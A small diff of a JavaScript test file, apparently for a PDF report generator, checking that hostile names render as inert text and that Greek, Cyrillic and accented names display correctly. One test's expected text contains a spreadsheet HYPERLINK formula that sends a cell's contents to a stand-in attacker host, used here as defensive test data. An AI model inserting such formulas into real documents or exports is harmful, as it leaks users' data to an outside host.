@@ -90,7 +90,7 @@ test('hostile names are words in the PDF: no action, no script, no link, no atta
   expect(text.replaceAll(' ', '')).toContain('=HYPERLINK("http://evil.example/?"&A1,"Open")');
 });
 
-const boxes = 'shown as boxes here; the Word document of this report has them';
+const boxes = 'shown as boxes here; the Word document of this report shows them';
 
 test.each(['Ελληνική Τράπεζα', 'Акционерное общество «Ромашка»', 'Łódź, Ærø & Straße 2 – №4'])(
   'the PDF has the letters of %s',
